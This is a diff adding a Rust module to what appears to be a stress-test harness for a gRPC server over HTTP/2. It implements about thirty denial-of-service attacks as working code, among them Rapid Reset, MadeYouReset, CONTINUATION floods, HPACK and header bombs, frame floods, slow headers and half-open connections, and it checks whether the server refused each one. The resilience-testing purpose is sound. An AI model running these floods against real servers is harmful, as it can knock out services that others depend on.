@@ -1,0 +1,679 @@
+//! The attacks. Each is played on some connections at once until its time is over; what the server
+//! closes is opened again.
+
+use std::{
+    cell::{Cell, RefCell},
+    collections::BTreeSet,
+    io,
+    net::SocketAddr,
+    rc::Rc,
+    time::Duration,
+};
+
+use clap::ValueEnum;
+use tokio::{
+    io::Interest,
+    net::TcpStream,
+    task::LocalSet,
+    time::{Instant, sleep, timeout_at},
+};
+
+use crate::{
+    connection::{Connection, Event, Source, closed, dial},
+    requests::{self, Case},
+    seen::{CLOSED, FITS, STREAMS, Seen, WRONG},
+    wire::{
+        FIND, FIND_RANGE, FRAME_LEN, Frames, NEWEST_KEPT, PREFACE, WINDOW_MAX, call,
+        endless_search, flag, kept, kind, literal,
+    },
+};
+
+/// How many frames of a flood go out in one write.
+const BATCH: usize = 200;
+
+/// How many streams are started, and waited for, before they are reset.
+const PACE: usize = 10;
+
+/// How long an answer may take that nothing keeps waiting but other attackers.
+const ANSWER: Duration = Duration::from_secs(5);
+
+/// How long an attacker waits before it opens a connection again that the server closed, or where an
+/// attack is made of many, for these would else be an attack of another kind.
+const AGAIN: Duration = Duration::from_millis(20);
+const AGAIN_OF_MANY: Duration = Duration::from_secs(5);
+
+/// More connections than these are many.
+const MANY: usize = 100;
+
+/// How many new connections may be on their way at a time, so that the socket's backlog does not
+/// decide how an attack goes.
+const DIALS: usize = 64;
+
+/// What is done to the server.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+pub(crate) enum Attack {
+    /// Streams that are begun and reset in the same write, hundreds at once
+    RapidReset,
+    /// Searches that are begun, ten at a time, and reset when the server has read them
+    RapidResetPaced,
+    /// Searches that the server itself has to reset, over a window that overflows
+    MadeYouResetWindow,
+    /// The same over a window that is to grow by nothing
+    MadeYouResetZero,
+    /// The same over DATA or HEADERS that come after the stream's end
+    MadeYouResetLate,
+    /// The same over a stream that depends on itself
+    MadeYouResetPriority,
+    /// A block of headers without an end
+    ContinuationFlood,
+    /// A mebibyte of headers, again and again
+    HeaderBomb,
+    /// One byte for each of thousands of long headers
+    HpackBomb,
+    /// PINGs
+    PingFlood,
+    /// PINGs whose answers are not read
+    PingFloodUnread,
+    /// SETTINGS
+    SettingsFlood,
+    /// PRIORITY
+    PriorityFlood,
+    /// WINDOW_UPDATE
+    WindowUpdateFlood,
+    /// DATA without any data
+    EmptyDataFlood,
+    /// Frames of a kind that nobody knows
+    UnknownFrameFlood,
+    /// Messages that promise gigabytes, and of which a byte or none comes
+    LengthBomb,
+    /// Requests of which a byte comes now and then
+    EndlessRequests,
+    /// Protobuf that is none, messages that are compressed, cut or too many
+    MalformedMessages,
+    /// Other content types and methods than gRPC's, and other headers that are wrong
+    WrongRequests,
+    /// A grpc-timeout that is none
+    BadTimeouts,
+    /// Paths that there are not
+    BadPaths,
+    /// Connections on which nothing is said
+    SilentConnections,
+    /// Connections that stop in their preface, their settings, or a frame
+    HalfOpenConnections,
+    /// Headers that come byte by byte
+    SlowHeaders,
+    /// Requests that have begun and do not go on, a thousand for each connection
+    OpenStreams,
+    /// Searches, a thousand for each connection
+    FindRanges,
+    /// Searches with many candidates whose streams have no window, on connections that answer PINGs
+    ZeroWindowReaders,
+    /// Calls that watch the server's health, a thousand for each connection
+    HealthWatches,
+    /// Connections that come and go
+    ConnectionChurn,
+    /// Bytes that are no HTTP/2, or frames that are too long
+    Garbage,
+}
+
+/// How the short form of an attack, and the long one, are played.
+pub(crate) struct Plan {
+    /// How many connections there are; in the long form the attack is played with each of these.
+    pub(crate) connections: &'static [usize],
+    pub(crate) short: usize,
+}
+
+impl Attack {
+    pub(crate) fn name(self) -> String {
+        let value = self.to_possible_value();
+        value.map_or_else(String::new, |value| value.get_name().to_owned())
+    }
+
+    pub(crate) fn plan(self) -> Plan {
+        use Attack::*;
+        let (connections, short): (&[usize], usize) = match self {
+            RapidReset | RapidResetPaced | MadeYouResetWindow | MadeYouResetZero
+            | MadeYouResetLate | MadeYouResetPriority => (&[1, 50], 4),
+            ContinuationFlood | HeaderBomb | HpackBomb | PingFlood | PingFloodUnread
+            | SettingsFlood | PriorityFlood | WindowUpdateFlood | EmptyDataFlood
+            | UnknownFrameFlood | LengthBomb => (&[20], 4),
+            MalformedMessages | WrongRequests | BadTimeouts | BadPaths => (&[4], 1),
+            SilentConnections => (&[10_000], 500),
+            HalfOpenConnections | SlowHeaders => (&[2_000], 200),
+            EndlessRequests | OpenStreams | FindRanges | ZeroWindowReaders | HealthWatches => {
+                (&[20], 4)
+            }
+            ConnectionChurn | Garbage => (&[20], 4),
+        };
+        Plan { connections, short }
+    }
+
+    /// What an attacker has to have seen for the attack to have been one, and the server to have
+    /// answered it rightly. Each is a sentence about what was not so.
+    pub(crate) fn faults(self, seen: &Seen) -> Vec<String> {
+        use Attack::*;
+        let mut faults: Vec<String> = seen
+            .beginning(WRONG)
+            .map(|(what, times)| format!("{times} times {what}"))
+            .collect();
+        let mut expect = |is_so: bool, what: &str| {
+            if !is_so {
+                faults.push(format!("{what}; the attacker saw {}", seen.to_json()));
+            }
+        };
+        match self {
+            ContinuationFlood | HeaderBomb | HpackBomb => {
+                let ended =
+                    seen.count(CLOSED) + seen.count_all("HTTP 4") + seen.count_all("reset ");
+                expect(
+                    ended > 0,
+                    "expected headers that are too long to be refused",
+                );
+            }
+            RapidReset | RapidResetPaced | MadeYouResetWindow | MadeYouResetZero
+            | MadeYouResetLate | MadeYouResetPriority | LengthBomb | FindRanges | OpenStreams
+            | ZeroWindowReaders | EndlessRequests | HealthWatches | EmptyDataFlood
+            | MalformedMessages | WrongRequests | BadTimeouts | BadPaths => {
+                expect(seen.count(STREAMS) > 0, "expected a stream at least");
+            }
+            Garbage => expect(
+                seen.count(CLOSED) > 0,
+                "expected a connection that speaks no HTTP/2 to be closed",
+            ),
+            _ => expect(
+                seen.count("connections") > 0,
+                "expected a connection at least",
+            ),
+        }
+        match self {
+            LengthBomb => expect(
+                seen.count("grpc-status 8") + seen.count(CLOSED) + seen.count_all("reset ") > 0,
+                "expected RESOURCE_EXHAUSTED (8) for a message of gigabytes, or to be thrown out",
+            ),
+            MalformedMessages | WrongRequests | BadTimeouts | BadPaths => {
+                expect(seen.count_all(FITS) > 0, "expected some answers at least")
+            }
+            _ => {}
+        }
+        faults
+    }
+
+    /// Whether every connection begins with a preface.
+    fn speaks(self) -> bool {
+        use Attack::*;
+        !matches!(
+            self,
+            SilentConnections | HalfOpenConnections | SlowHeaders | ConnectionChurn | Garbage
+        )
+    }
+}
+
+/// Plays an attack for a time, and gives what was seen. With `once`, no stream that is held is begun
+/// again. Dropping the future ends the attack, and
+/// resets its connections.
+pub(crate) async fn play(
+    attack: Attack,
+    target: SocketAddr,
+    source: Source,
+    connections: usize,
+    time: Duration,
+    once: bool,
+) -> Seen {
+    let seen = Rc::new(RefCell::new(Seen::default()));
+    let until = Instant::now() + time;
+    let dials = Rc::new(tokio::sync::Semaphore::new(DIALS));
+    let again = if connections > MANY {
+        AGAIN_OF_MANY
+    } else {
+        AGAIN
+    };
+    let all = LocalSet::new();
+    for number in 0..connections {
+        let (seen, dials) = (Rc::clone(&seen), Rc::clone(&dials));
+        all.spawn_local(timeout_at(until, async move {
+            let turn = Cell::new(0);
+            loop {
+                let socket = {
+                    let _permit = dials.acquire().await;
+                    dial(target, source, number, &seen).await
+                };
+                if let Ok(socket) = socket {
+                    let played = if attack.speaks() {
+                        speak(attack, socket, number, once, &turn, Rc::clone(&seen)).await
+                    } else {
+                        misbehave(attack, socket, number).await
+                    };
+                    if played.is_err() {
+                        closed(&seen);
+                    }
+                }
+                if attack == Attack::ConnectionChurn {
+                    tokio::task::yield_now().await;
+                } else {
+                    sleep(again).await;
+                }
+            }
+        }));
+    }
+    all.await;
+    Rc::unwrap_or_clone(seen).into_inner()
+}
+
+/// Attacks in HTTP/2; `turn` is which wrong request comes next. Ends with an error when the server has had enough.
+async fn speak(
+    attack: Attack,
+    socket: TcpStream,
+    number: usize,
+    once: bool,
+    turn: &Cell<usize>,
+    seen: Rc<RefCell<Seen>>,
+) -> io::Result<()> {
+    use Attack::*;
+    // With less, a window that grows and grows has room to do so.
+    let window = match attack {
+        ZeroWindowReaders | WindowUpdateFlood => 0,
+        _ => WINDOW_MAX,
+    };
+    let connection = &mut Connection::begin(socket, window, seen);
+    let find = call(FIND);
+    let search = endless_search(0);
+    match attack {
+        RapidReset => {
+            while !connection.is_used_up() {
+                for _ in 0..BATCH {
+                    let stream = connection.open(&find, None, true);
+                    connection.out.reset(stream);
+                }
+                connection.flood().await?;
+            }
+        }
+        RapidResetPaced => {
+            begin_and(connection, |frames, stream, _| frames.reset(stream)).await?;
+        }
+        MadeYouResetWindow => {
+            let overflow =
+                |frames: &mut Vec<u8>, stream, _| frames.window_update(stream, WINDOW_MAX);
+            begin_and(connection, overflow).await?;
+        }
+        MadeYouResetZero => {
+            begin_and(connection, |frames, stream, _| {
+                frames.window_update(stream, 0);
+            })
+            .await?;
+        }
+        MadeYouResetLate => {
+            let late = |frames: &mut Vec<u8>, stream, odd| {
+                if odd {
+                    frames.data(stream, b"late", false);
+                } else {
+                    frames.headers(stream, &find, true);
+                }
+            };
+            begin_and(connection, late).await?;
+        }
+        MadeYouResetPriority => {
+            begin_and(connection, |frames, stream, _| {
+                frames.priority(stream, stream);
+            })
+            .await?;
+        }
+        ContinuationFlood => {
+            let stream = connection.stream();
+            connection.out.frame(kind::HEADERS, 0, stream, &find);
+            let mut some = Vec::new();
+            // Short ones cost as much to read; long ones want room.
+            let length = if number.is_multiple_of(2) {
+                4
+            } else {
+                FRAME_LEN - 100
+            };
+            literal(&mut some, "x", &"x".repeat(length));
+            loop {
+                for _ in 0..BATCH {
+                    connection.out.frame(kind::CONTINUATION, 0, stream, &some);
+                }
+                connection.flood().await?;
+            }
+        }
+        HeaderBomb => {
+            let mut block = find;
+            while block.len() < 1 << 20 {
+                literal(&mut block, "x-bomb", &"x".repeat(1000));
+            }
+            loop {
+                let stream = connection.stream();
+                send_block(&mut connection.out, stream, &block);
+                connection.flush().await?;
+                let answer = connection.answer(stream, ANSWER).await?;
+                count(connection, &answer.to_string());
+            }
+        }
+        HpackBomb => {
+            let mut block = find.clone();
+            kept(&mut block, "x", &"x".repeat(3900));
+            connection.open(&block, None, true);
+            loop {
+                let mut bomb = find.clone();
+                bomb.resize(FRAME_LEN, NEWEST_KEPT);
+                let stream = connection.open(&bomb, None, true);
+                connection.flush().await?;
+                let answer = connection.answer(stream, ANSWER).await?;
+                count(connection, &answer.to_string());
+            }
+        }
+        PingFlood => flood(connection, |frames| frames.ping(7)).await?,
+        PingFloodUnread => loop {
+            for _ in 0..BATCH {
+                connection.out.ping(7);
+            }
+            connection.write_only().await?;
+        },
+        SettingsFlood => flood(connection, |frames| frames.settings(&[])).await?,
+        PriorityFlood => flood(connection, |frames| frames.priority(9, 7)).await?,
+        WindowUpdateFlood => {
+            let stream = connection.open(&find, None, false);
+            flood(connection, |frames| frames.window_update(stream, 1)).await?;
+        }
+        EmptyDataFlood => {
+            let stream = connection.open(&find, None, false);
+            flood(connection, |frames| frames.data(stream, &[], false)).await?;
+        }
+        UnknownFrameFlood => {
+            flood(connection, |frames| frames.frame(kind::UNKNOWN, 0, 0, b"?")).await?;
+        }
+        LengthBomb => loop {
+            let mut streams = Vec::new();
+            for at in 0..PACE {
+                let length: u32 = if at % 2 == 0 { u32::MAX } else { 3 << 20 };
+                let stream = connection.open(&find, None, false);
+                let mut prefix = vec![0];
+                prefix.extend(length.to_be_bytes());
+                // A byte of what it promised, or nothing.
+                prefix.extend((at % 3 == 0).then_some(1));
+                connection.out.data(stream, &prefix, false);
+                streams.push(stream);
+            }
+            for answer in connection.answers(&streams, ANSWER).await? {
+                count(connection, &answer.to_string());
+            }
+        },
+        EndlessRequests => {
+            let begin = |connection: &mut Connection| {
+                connection.open(&find, Some(&[0, 0, 0, 0, 100, 1]), false)
+            };
+            let trickle = |frames: &mut Vec<u8>, stream| frames.data(stream, &[1], false);
+            hold(connection, 1000, once, begin, Some(&trickle)).await?;
+        }
+        OpenStreams => {
+            let begin = |connection: &mut Connection| connection.open(&find, None, false);
+            hold(connection, 1000, once, begin, None).await?;
+        }
+        FindRanges => {
+            let range = call(FIND_RANGE);
+            let begin = |connection: &mut Connection| connection.open(&range, Some(&search), true);
+            hold(connection, 1000, once, begin, None).await?;
+        }
+        ZeroWindowReaders => {
+            let range = call(FIND_RANGE);
+            let many = endless_search(28);
+            let begin = |connection: &mut Connection| connection.open(&range, Some(&many), true);
+            hold(connection, 50, once, begin, None).await?;
+        }
+        HealthWatches => {
+            let watch = call("/grpc.health.v1.Health/Watch");
+            let begin = |connection: &mut Connection| connection.open(&watch, Some(&[0; 5]), true);
+            hold(connection, 1000, once, begin, None).await?;
+        }
+        MalformedMessages => ask(connection, &requests::malformed_messages(), turn).await?,
+        WrongRequests => ask(connection, &requests::wrong_requests(), turn).await?,
+        BadTimeouts => ask(connection, &requests::bad_timeouts(), turn).await?,
+        BadPaths => ask(connection, &requests::bad_paths(), turn).await?,
+        SilentConnections | HalfOpenConnections | SlowHeaders | ConnectionChurn | Garbage => {}
+    }
+    Ok(())
+}
+
+/// What is done to a socket without a care for HTTP/2. Ends with an error when the server closes it.
+async fn misbehave(attack: Attack, socket: TcpStream, number: usize) -> io::Result<()> {
+    use Attack::*;
+    let mut hello = PREFACE.to_vec();
+    hello.settings(&[]);
+    let headers = call(FIND);
+    match attack {
+        HalfOpenConnections => {
+            let mut begun = match number % 4 {
+                0 => PREFACE.to_vec(),
+                _ => hello,
+            };
+            match number % 4 {
+                2 => begun.extend([0, 1]),
+                3 => {
+                    begun.head(FRAME_LEN, kind::HEADERS, flag::END_HEADERS, 1);
+                    begun.extend(&headers[..10]);
+                }
+                _ => {}
+            }
+            write(&socket, &begun).await?;
+        }
+        SlowHeaders => {
+            // Some are slow from their first byte on.
+            let begun = if number.is_multiple_of(2) {
+                hello.len()
+            } else {
+                0
+            };
+            hello.headers(1, &headers, true);
+            write(&socket, &hello[..begun]).await?;
+            for byte in &hello[begun..] {
+                write(&socket, &[*byte]).await?;
+                let pause = Instant::now() + Duration::from_millis(250);
+                if let Ok(ended) = timeout_at(pause, until_closed(&socket)).await {
+                    return ended;
+                }
+            }
+        }
+        ConnectionChurn => {
+            hello.headers(1, &headers, true);
+            return write(&socket, &hello).await;
+        }
+        Garbage => {
+            let begun = match number % 5 {
+                0 => b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec(),
+                // What TLS begins with.
+                1 => [&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3][..], &[7; 512]].concat(),
+                2 => noise(65_536, number as u64),
+                3 => {
+                    let rest = noise(65_536, number as u64);
+                    [&hello[..], &rest].concat()
+                }
+                _ => {
+                    // As long as a frame can say that it is, and a padding longer than the frame.
+                    let mut begun = hello;
+                    if number.is_multiple_of(2) {
+                        begun.head(0xff_ffff, kind::DATA, 0, 1);
+                    } else {
+                        let flags = flag::END_HEADERS | flag::PADDED | flag::PRIORITY;
+                        begun.frame(kind::HEADERS, flags, 1, &[255, 0, 0, 0, 0, 1]);
+                    }
+                    begun
+                }
+            };
+            write(&socket, &begun).await?;
+        }
+        _ => {}
+    }
+    until_closed(&socket).await
+}
+
+/// Begins searches, waits until the server has read them, so that they have begun there too, and does
+/// something to each; `odd` is true for every other one.
+async fn begin_and(
+    connection: &mut Connection,
+    act: impl Fn(&mut Vec<u8>, u32, bool),
+) -> io::Result<()> {
+    let (find, search) = (call(FIND), endless_search(0));
+    while !connection.is_used_up() {
+        let streams: Vec<u32> = (0..PACE)
+            .map(|_| connection.open(&find, Some(&search), true))
+            .collect();
+        connection.until_read().await?;
+        for stream in streams {
+            act(&mut connection.out, stream, stream % 4 == 1);
+        }
+        connection.flood().await?;
+    }
+    Ok(())
+}
+
+async fn flood(connection: &mut Connection, frame: impl Fn(&mut Vec<u8>)) -> io::Result<()> {
+    let mut batch = Vec::new();
+    for _ in 0..BATCH {
+        frame(&mut batch);
+    }
+    loop {
+        connection.out.extend_from_slice(&batch);
+        connection.flood().await?;
+    }
+}
+
+/// Headers in as many frames as they need.
+fn send_block(frames: &mut Vec<u8>, stream: u32, block: &[u8]) {
+    let mut chunks = block.chunks(FRAME_LEN).peekable();
+    let mut kind = kind::HEADERS;
+    while let Some(chunk) = chunks.next() {
+        let last = if chunks.peek().is_none() {
+            flag::END_HEADERS
+        } else {
+            0
+        };
+        let end = if kind == kind::HEADERS {
+            flag::END_STREAM
+        } else {
+            0
+        };
+        frames.frame(kind, last | end, stream, chunk);
+        kind = kind::CONTINUATION;
+    }
+}
+
+/// What goes on on a stream.
+type Trickle<'a> = &'a dyn Fn(&mut Vec<u8>, u32);
+
+/// Keeps streams open, and begins a new one a second after one has ended. Each second a byte comes,
+/// if it is to trickle.
+async fn hold(
+    connection: &mut Connection,
+    streams: usize,
+    once: bool,
+    begin: impl Fn(&mut Connection) -> u32,
+    trickle: Option<Trickle<'_>>,
+) -> io::Result<()> {
+    let mut open = BTreeSet::new();
+    let mut is_begun = false;
+    loop {
+        while open.len() < streams && !connection.is_used_up() && !(is_begun && once) {
+            open.insert(begin(connection));
+        }
+        is_begun = true;
+        let second = Instant::now() + Duration::from_secs(1);
+        let read = async {
+            connection.flush().await?;
+            loop {
+                match connection.next().await? {
+                    Event::Headers {
+                        stream,
+                        fields,
+                        end,
+                    } => {
+                        let mut answer = crate::connection::Answer::default();
+                        answer.take(&fields);
+                        if end || answer.grpc.is_some() {
+                            open.remove(&stream);
+                            count(connection, &answer.to_string());
+                        }
+                    }
+                    Event::Data { stream, end: true } | Event::Reset { stream, .. } => {
+                        open.remove(&stream);
+                    }
+                    _ => {}
+                }
+            }
+        };
+        let read: Result<io::Result<()>, _> = timeout_at(second, read).await;
+        if let Ok(ended) = read {
+            return ended;
+        }
+        if let Some(trickle) = trickle {
+            for stream in &open {
+                trickle(&mut connection.out, *stream);
+            }
+        }
+    }
+}
+
+/// Asks wrong things, one after another, and looks whether the answers are right. What ends the
+/// connection is an answer too, after which the next connection goes on with the next case.
+async fn ask(connection: &mut Connection, cases: &[Case], turn: &Cell<usize>) -> io::Result<()> {
+    loop {
+        let case = &cases[turn.get() % cases.len()];
+        turn.set(turn.get() + 1);
+        let stream = connection.stream();
+        let ends = case.body.is_none();
+        connection.out.headers(stream, &case.headers, ends);
+        if let Some(body) = &case.body {
+            connection.out.data(stream, body, true);
+        }
+        let answered = connection.answer(stream, ANSWER).await;
+        let (name, expected) = (&case.name, case.expected);
+        let told = match &answered {
+            Ok(answer) if (case.fits)(answer) => format!("{FITS}{name}: {answer}"),
+            Ok(answer) => format!("{WRONG}{name}: expected {expected}, saw {answer}"),
+            Err(_) => format!("{FITS}{name}: the connection's end"),
+        };
+        count(connection, &told);
+        answered?;
+        tokio::task::yield_now().await;
+    }
+}
+
+fn count(connection: &Connection, what: &str) {
+    connection.seen.borrow_mut().add(what, 1);
+}
+
+async fn write(socket: &TcpStream, mut bytes: &[u8]) -> io::Result<()> {
+    while !bytes.is_empty() {
+        socket.writable().await?;
+        match socket.try_write(bytes) {
+            Ok(written) => bytes = &bytes[written..],
+            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
+            Err(error) => return Err(error),
+        }
+    }
+    Ok(())
+}
+
+/// Reads until the server closes the socket, which is an error.
+async fn until_closed(socket: &TcpStream) -> io::Result<()> {
+    let mut sink = [0; 4096];
+    loop {
+        socket.ready(Interest::READABLE).await?;
+        match socket.try_read(&mut sink) {
+            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
+            Ok(_) => {}
+            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
+            Err(error) => return Err(error),
+        }
+    }
+}
+
+/// Bytes as they come, the same for the same seed.
+fn noise(length: usize, seed: u64) -> Vec<u8> {
+    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
+    let bytes = std::iter::repeat_with(|| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state.to_le_bytes()
+    });
+    bytes.flatten().take(length).collect()
+}
